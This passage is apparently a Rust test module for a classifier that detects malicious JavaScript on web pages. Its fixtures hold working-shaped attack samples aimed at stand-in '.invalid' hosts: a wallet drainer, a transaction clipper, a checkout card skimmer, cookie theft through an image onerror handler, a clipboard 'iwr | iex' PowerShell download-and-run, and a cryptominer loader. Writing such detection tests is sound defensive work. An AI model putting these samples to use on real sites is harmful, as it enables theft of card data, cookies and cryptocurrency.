            DECODED_NAME,
            HIDDEN_TEXT,
            SINK_INJECT,
            SINK_SRC_ATTR,
            DECODE,
        ] {
            assert_ne!(s & bit, 0, "{}", signals::describe(bit));
        }
        let ctx = Context {
            site: Some("www.shop.example"),
        };
        let built = r#"var c = { h: "x" }; fetch("https://" + c.h + "/p", { method: "POST" });"#;
        let f = features(&analyse(built), None, ctx);
        assert_ne!(f.signals & BUILT_URL, 0);
        assert!(f.new_hosts.is_empty());
        assert_eq!(
            shared_features(&f)[4],
            1.0,
            "a built host counts as a new host"
        );
        let template = "var c = { h: 'x' }; fetch(`wss://${c.h}/p`);";
        assert_ne!(
            features(&analyse(template), None, ctx).signals & BUILT_URL,
            0
        );
        let own = r#"fetch(location.protocol + "//" + location.host + "/api");"#;
        assert_eq!(features(&analyse(own), None, ctx).signals & BUILT_URL, 0);
        let jar = "var jar = {}; jar[decodeURIComponent(k)] = v;";
        assert_eq!(
            features(&analyse(jar), None, ctx).signals & DECODED_NAME,
            0,
            "a map keyed by a decoded name is ordinary"
        );
        let table = "var t = {}; for (var i = 0; i < 26; i++) t[String.fromCharCode(65 + i)] = i;";
        assert_eq!(
            features(&analyse(table), None, ctx).signals & DECODED_NAME,
            0,
            "a table of the script's own filled under decoded keys hides no method"
        );
        let written = "window[atob('bG9jYXRpb24=')] = u;";
        assert_ne!(
            features(&analyse(written), None, ctx).signals & DECODED_NAME,
            0
        );
    }

    /// A network API replaced by the script's own function is a hook; the script's own
    /// objects' `send` or `fetch` are not.
    #[test]
    fn replacing_a_network_api_is_a_hook() {
        let ctx = Context::default();
        for (code, hook) in [
            ("var f = window.fetch; window.fetch = function () { return f.apply(this, arguments); };", true),
            ("XMLHttpRequest.prototype.send = function (b) { log(b); };", true),
            ("self[\"fetch\"] = function () {};", true),
            ("(function (w) { w.XMLHttpRequest.prototype.send = function () {}; })(window);", true),
            ("window.ethereum.request = function (a) { return a; };", true),
            ("var client = {}; client.send = function () {}; client.fetch = function () {};", false),
            ("function fetch() {} fetch = null;", false),
            ("this.request = function () {};", false),
            ("(function (w) { w.fetch = null; })(myWindow);", false),
            // Polyfills install what is missing; they wrap nothing.
            ("self.fetch || (self.fetch = myFetch);", false),
            ("var f = window.fetch || (window.fetch = myFetch, window.Headers = H);", false),
            ("if (!window.fetch) { window.fetch = myFetch; }", false),
            ("if (!window.fetch) { window.Headers = H; } window.fetch = wrap;", true),
        ] {
            let f = features(&analyse(code), None, ctx);
            assert_eq!(f.signals & HOOK != 0, hook, "{code}");
        }
        // Another object's `request` is a request hook, weighed only beside wallet code.
        let f = features(&analyse("function patch(p) { var o = p.request; p.request = function (a) { return o(a); }; }"), None, ctx);
        assert_eq!(f.signals & (HOOK | REQUEST_HOOK), REQUEST_HOOK);
    }

    /// Wallet vocabulary: spend methods, token call data and wallet addresses, from strings
    /// and regular expressions; a hash or a short hex number is none of them.
    #[test]
    fn wallet_words_are_read() {
        let ctx = Context::default();
        for (code, bits) in [
            (
                r#"eth.request({ method: "eth_sendTransaction", params: [tx] });"#,
                WALLET_SPEND,
            ),
            (
                r#"var d = "0x095ea7b3" + pad(spender) + "f".repeat(64);"#,
                TOKEN_CALL,
            ),
            (r#"var t = { primaryType: "Permit" };"#, TOKEN_CALL),
            (
                r#"var to = "0x5c1E3f9B7a2D4c6E8f0A1b3C5d7E9f2A4b6C8d0E";"#,
                WALLET_ADDRESS,
            ),
            (
                r#"s = s.replace(/\b0x[a-fA-F0-9]{40}\b/g, swap);"#,
                WALLET_ADDRESS,
            ),
            (
                r#"s = s.replace(/\b(bc1[a-z0-9]{25,39})\b/g, swap);"#,
                WALLET_ADDRESS,
            ),
            (
                r#"var v = "0x1f"; var h = "d41d8cd98f00b204e9800998ecf8427e";"#,
                0,
            ),
            (r#"eth.request({ method: "eth_requestAccounts" });"#, 0),
        ] {
            let s = features(&analyse(code), None, ctx).signals;
            assert_eq!(
                s & (WALLET_SPEND | TOKEN_CALL | WALLET_ADDRESS),
                bits,
                "{code}"
            );
        }
    }

    /// A wallet asked for a token approval written into the script, reported to a new
    /// host, is the drainer signature; wrapping the provider where transactions pass is
    /// the clipper signature. A dapp that sends what its user asked for is neither.
    #[test]
    fn wallet_drainers_and_clippers_are_signatures() {
        const DRAINER: &str = "(wallet drainer)";
        const CLIPPER: &str = "(clipper)";
        let ctx = Context::default();
        let drainer = r#"(function () {
            var spender = "0x7a3c19e5b2d48f6a0c1e9b37d5f82a4c6e0b1d93";
            function approve(eth, from, token) {
                var data = "0x095ea7b3" + spender.slice(2).padStart(64, "0") + "f".repeat(64);
                return eth.request({ method: "eth_sendTransaction", params: [{ from: from, to: token, data: data }] })
                    .then(function (tx) { return fetch("https://panel.drain.invalid/ok", { method: "POST", body: JSON.stringify({ tx: tx }) }); });
            }
            window.ethereum.request({ method: "eth_requestAccounts" }).then(function (a) { approve(window.ethereum, a[0], "0x1111111111111111111111111111111111111111"); });
        })();"#;
        let v = classify("x.js", &analyse(drainer), None, ctx);
        assert!(
            v.malicious && v.reasons.iter().any(|r| r.contains(DRAINER)),
            "{v:?}"
        );
        let clipper = r#"(function () {
            function patch(eth) {
                var orig = eth.request.bind(eth);
                eth.request = function (args) {
                    if (args.method === "eth_sendTransaction") { args.params[0].to = "0x7a3c19e5b2d48f6a0c1e9b37d5f82a4c6e0b1d93"; }
                    return orig(args);
                };
            }
            patch(window.ethereum);
        })();"#;
        let v = classify("x.js", &analyse(clipper), None, ctx);
        assert!(
            v.malicious && v.reasons.iter().any(|r| r.contains(CLIPPER)),
            "{v:?}"
        );
        let dapp = r#"(function () {
            document.getElementById("pay").addEventListener("click", function () {
                var to = document.getElementById("to").value;
                window.ethereum.request({ method: "eth_sendTransaction", params: [{ to: to, value: "0x2386f26fc10000" }] });
            });
        })();"#;
        let v = classify("x.js", &analyse(dapp), None, ctx);
        assert!(
            !v.reasons
                .iter()
                .any(|r| r.contains(DRAINER) || r.contains(CLIPPER)),
            "{v:?}"
        );
    }

    /// Handing the visitor to an app (`ledgerlive://`, `mailto:`) leaves the page where it
    /// is: no redirect. Navigating to a web page is one.
    #[test]
    fn an_app_link_is_no_redirect() {
        let ctx = Context::default();
        for (code, redirect) in [
            (
                "window.location.href = `ledgerlive://wc?uri=${encodeURIComponent(u)}`;",
                false,
            ),
            ("location.href = 'mailto:' + addr;", false),
            ("location.assign('tg://resolve?domain=x');", false),
            ("location.href = 'https://ads.invalid/?u=' + u;", true),
            ("location.replace(url);", true),
            ("location.href = '//ads.invalid/';", true),
        ] {
            let s = features(&analyse(code), None, ctx).signals;
            assert_eq!(s & REDIRECT != 0, redirect, "{code}");
        }
    }

    /// Card field values sent to a new host from code gated on checkout pages is the
    /// checkout-skimmer signature; the same code without the gate is left to the model.
    #[test]
    fn a_checkout_gated_card_sender_is_a_signature() {
        const SIGNED: &str =
            "card field values sent to a new host, on checkout pages only (checkout skimmer)";
        let body = r##"document.querySelector("#payment").addEventListener("submit", function () {
                var n = document.querySelector("input[name=cardnumber]").value;
                navigator.sendBeacon("https://collect.invalid/c", n);
            });"##;
        let gated = format!("if (location.pathname.indexOf('checkout') > -1) {{ {body} }}");
        let v = classify("x.js", &analyse(&gated), None, Context::default());
        assert!(
            v.malicious && v.reasons.iter().any(|r| r.contains(SIGNED)),
            "{v:?}"
        );
        let v = classify("x.js", &analyse(body), None, Context::default());
        assert!(!v.reasons.iter().any(|r| r.contains(SIGNED)), "{v:?}");
    }

    /// A hosted miner's script written into the page from a new host is cryptojacking
    /// whatever the model says; a payment button that names Monero and loads its own
    /// script is not, nor is the miner's name alone.
    #[test]
    fn a_miner_loaded_from_a_new_host_is_a_signature() {
        const SIGNED: &str = "a cryptominer's script loaded from a new host (cryptojacking)";
        let miner = r#"(function () {
            document.write("<script src='https://cdn.invalid/lib/m.js?r=" + Math.random() + "'></scr" + "ipt>");
            window.addEventListener("load", function () { new CoinHive.Anonymous("k3y", { throttle: 0.3 }).start(); });
        })();"#;
        let v = classify("x.js", &analyse(miner), None, Context::default());
        assert!(
            v.malicious && v.reasons.iter().any(|r| r.contains(SIGNED)),
            "{v:?}"
        );
        for benign in [
            r#"(function () { var s = document.createElement("script"); s.src = "https://pay.example.org/button.js";
               document.body.appendChild(s); document.getElementById("pay").title = "Pay with Monero"; })();"#,
            r#"(function () { var label = "CoinHive was a miner"; document.title = label; })();"#,
        ] {
            let v = classify("x.js", &analyse(benign), None, Context::default());
            assert!(
                !v.reasons.iter().any(|r| r.contains(SIGNED)),
                "{benign}: {v:?}"
            );
        }
    }

    /// A sign-in form drawn by a script is a fake form as a card form is.
    #[test]
    fn a_drawn_password_form_is_a_fake_form() {
        let ctx = Context::default();
        let drawn = r#"document.body.innerHTML += '<form><input name="u"><input type="password" name="p"></form>';"#;
        assert_ne!(features(&analyse(drawn), None, ctx).signals & FAKE_FORM, 0);
        let plain = r#"document.body.innerHTML += '<form><input name="q" type="search"></form>';"#;
        assert_eq!(features(&analyse(plain), None, ctx).signals & FAKE_FORM, 0);
    }

    /// Reading the referrer or the user agent is a visitor check where it decides something;
    /// put into a URL (an analytics pixel), it is only sent.
    #[test]
    fn a_referrer_sent_is_no_visitor_check() {
        let ctx = Context::default();
        let sent = r#"new Image().src = "https://px.example/t?r=" + encodeURIComponent(document.referrer);"#;
        assert_eq!(
            features(&analyse(sent), None, ctx).signals & VISITOR_CHECK,
            0
        );
        for tested in [
            r#"if (/google|bing/.test(document.referrer)) go();"#,
            r#"var ua = navigator.userAgent; if (ua.indexOf("bot") < 0) go(encodeURIComponent(ua));"#,
        ] {
            let f = features(&analyse(tested), None, ctx);
            assert_ne!(f.signals & VISITOR_CHECK, 0, "{tested}");
        }
    }

    /// Strings turned back at run time by reversing them (through a helper, inline, or as a
    /// minifier writes it) read as what they say; reversing text that is not a constant is
    /// an ordinary string utility.
    #[test]
    fn reversed_strings_are_read() {
        let ctx = Context::default();
        let helper = r#"(function (w) {
              var r = function (s) { return s.split("").reverse().join(""); };
              var H = r("dilavni.kcehc-nocivaf//:sptth");
              w[r("hctef")](H + "/i", { method: "POST", body: w[r("egarotSnoisses")].x });
            })(window);"#;
        let f = features(&analyse(helper), None, ctx);
        for bit in [SINK_FETCH, DECODE, DECODED_NAME, HIDDEN_TEXT] {
            assert_ne!(f.signals & bit, 0, "{}", signals::describe(bit));
        }
        assert_eq!(f.new_hosts, ["favicon-check.invalid"]);
        let minified =
            "(function(e){var n=e=>[...e].reverse().join(``);e[n(`hctef`)](`/x`)})(window)";
        assert_ne!(
            features(&analyse(minified), None, ctx).signals & SINK_FETCH,
            0
        );
        let declared = r#"function r(s) { return Array.from(s).reverse().join(""); }
            var t = { k: r("rebmun_cc") };"#;
        assert_ne!(
            features(&analyse(declared), None, ctx).signals & SRC_CARD,
            0
        );
        let inline = r#"window["hctef".split("").reverse().join("")]("/x");"#;
        assert_ne!(
            features(&analyse(inline), None, ctx).signals & SINK_FETCH,
            0
        );
        let utility =
            "function rev(s) { return s.split('').reverse().join(''); } rev(input.value);";
        assert_eq!(features(&analyse(utility), None, ctx).signals & DECODE, 0);
    }

    /// A URL joined from an array of pieces (also reversed pieces, or the array reversed)
    /// names its host; joining ordinary words names nothing and hides nothing.
    #[test]
    fn urls_joined_from_pieces_name_their_host() {
        let ctx = Context::default();
        let joined = r#"var h = ["https://", "s3-", "bucket", "-metrics", ".invalid"].join("");
            var s = document.createElement("script"); s.src = h + "/p.js?v=" + x;"#;
        let f = features(&analyse(joined), None, ctx);
        assert_eq!(f.new_hosts, ["s3-bucket-metrics.invalid"]);
        assert_ne!(f.signals & HIDDEN_TEXT, 0);
        let reversed = r#"var h = ["dilavni.", "sdt-ssalc", "//:sptth"]
            .map(function (p) { return p.split("").reverse().join(""); }).reverse().join("");"#;
        assert_eq!(
            features(&analyse(reversed), None, ctx).new_hosts,
            ["class-tds.invalid"]
        );
        let words = r#"el.className = ["btn", "btn-primary", "active"].join(" ");"#;
        let f = features(&analyse(words), None, ctx);
        assert!(f.new_hosts.is_empty());
        assert_eq!(f.signals & (DECODE | HIDDEN_TEXT), 0);
    }

    /// A table of strings read by index (or through a decoder function) gives the code that
    /// reads it what the table names, whether written as an array or as a compressor writes
    /// one; a list of ordinary words does not.
    #[test]
    fn string_tables_are_read_where_they_are_used() {
        let ctx = Context::default();
        let table = r#"var _0x1 = ["open", "GET", "send", "cookie", "referrer", "hostname",
              "https://tds.invalid/s.php?id=", "XMLHttpRequest", "eval", "responseText"];
            var _0x2 = function (i) { return _0x1[i - 0]; };
            (function () {
              var x = new window[_0x2(7)]();
              x[_0x2(0)](_0x2(1), _0x2(6) + document[_0x2(3)]);
              x[_0x2(2)]();
            })();"#;
        let f = features(&analyse(table), None, ctx);
        for bit in [
            SINK_XHR,
            DYN_EVAL,
            SRC_STORAGE,
            VISITOR_CHECK,
            DECODED_NAME,
            HIDDEN_TEXT,
        ] {
            assert_ne!(f.signals & bit, 0, "{}", signals::describe(bit));
        }
        assert_eq!(f.new_hosts, ["tds.invalid"]);
        let split =
            "var t = `open,GET,send,cookie,referrer,hostname,XMLHttpRequest,eval`.split(`,`);
            (function(){ new window[t[6]]()[t[2]](document[t[3]]) })();";
        assert_ne!(features(&analyse(split), None, ctx).signals & SINK_XHR, 0);
        let months = r#"var m = ["January", "February", "March", "April", "May", "June", "July",
              "August", "September", "October", "November", "December"];
            function name(d) { return m[d.getMonth()]; }"#;
        assert_eq!(
            features(&analyse(months), None, ctx).signals & (DECODED_NAME | HIDDEN_TEXT),
            0,
            "a list of words is no string table"
        );
    }

    /// Code kept in strings (template pieces for `Function`, lines joined into a worker's
    /// `Blob`) counts where the code holding it runs code, and nowhere else.
    #[test]
    fn code_kept_in_strings_counts_where_it_is_run() {
        let ctx = Context::default();
        let pieces = r#"(function () {
              var p = [String.raw`if(!/checkout/.test(location.pathname))return;`,
                String.raw`window["fe"+"tch"]("https://cdn-static.invalid/a.js").then(function(r){return r.text()});`];
              setTimeout(function () { new Function(p.join(""))(); }, 500);
            })();"#;
        let f = features(&analyse(pieces), None, ctx);
        for bit in [SINK_FETCH, HIDDEN_TEXT, CHECKOUT_WORD, LOCATION] {
            assert_ne!(f.signals & bit, 0, "{}", signals::describe(bit));
        }
        assert_eq!(f.new_hosts, ["cdn-static.invalid"]);
        let worker = r#"(function () {
              var src = ["var ws=new WebSocket('wss://pool.invalid/p');",
                "onmessage=function(m){ws.send(m.data)};"].join("
");
              new Worker(URL.createObjectURL(new Blob([src])));
            })();"#;
        let s = features(&analyse(worker), None, ctx).signals;
        assert_ne!(s & SINK_WEBSOCKET, 0);
        assert_ne!(s & WORKER, 0);
        let kept = r#"(function () {
              var help = "Call fetch(url) first; then { read } the body.";
              document.title = help;
            })();"#;
        assert_eq!(
            features(&analyse(kept), None, ctx).signals & SINK_FETCH,
            0,
            "code-like text nothing runs is text"
        );
        let evaluated = r#"eval("navigator.sendBeacon('/b', document.cookie);");"#;
        assert_ne!(
            features(&analyse(evaluated), None, ctx).signals & SINK_BEACON,
            0
        );
    }

    /// A name assembled from pieces is a hidden name; markup written with script in it,
    /// a command put on the clipboard and code run from a data channel are seen.
    #[test]
    fn assembled_names_markup_code_and_channels_are_seen() {
        let ctx = Context::default();
        let split = r#"var c = document.title; window["ev" + "al"](c);"#;
        let s = features(&analyse(split), None, ctx).signals;
        assert_ne!(s & DYN_EVAL, 0, "eval reached by an assembled name");
        assert_ne!(s & DECODED_NAME, 0);
        let dynamic = "var k = 'on' + e.type; el[k] = f;";
        assert_eq!(
            features(&analyse(dynamic), None, ctx).signals & DECODED_NAME,
            0
        );
        let markup = r#"document.body.innerHTML += '<img src="x" onerror="fetch(' + "'https://m.invalid/'" + '+document.cookie)">';"#;
        let f = features(&analyse(markup), None, ctx);
        assert_ne!(f.signals & MARKUP_CODE, 0);
        assert_ne!(f.signals & SINK_FETCH, 0);
        let clickfix = r#"document.getElementById("ok").onclick = function () {
              navigator.clipboard.writeText('powershell -c "iwr https://x.invalid/a.ps1 | iex"');
              document.body.appendChild(document.createElement("div"));
            };"#;
        let v = classify("c.js", &analyse(clickfix), None, ctx);
        assert!(v.malicious, "{v:#?}");
        assert!(
            v.reasons.iter().any(|r| r.contains("clipboard")),
            "{:?}",
            v.reasons
        );
        let rtc = r#"if (/checkout/.test(location.href)) {
              var pc = new RTCPeerConnection({ iceServers: [] });
              pc.createDataChannel("d").onmessage = function (m) { new Function(m.data)(); };
            }"#;
        let v = classify("r.js", &analyse(rtc), None, ctx);
        assert!(v.malicious, "{v:#?}");
    }

    #[test]
    fn with_a_baseline_only_added_code_counts() {
        let old = "function send(d){ var x = new XMLHttpRequest(); x.open('POST', 'https://api.shop.example/cart'); x.send(d); }";
        let same = format!("{old}\n// comment only");
        let v = classify(
            "n.js",
            &analyse(&same),
            Some(&analyse(old)),
            Context::default(),
        );
        assert_eq!(v.scope, "added");
        assert!(v.risk < 0.1, "{v:#?}");
    }
}
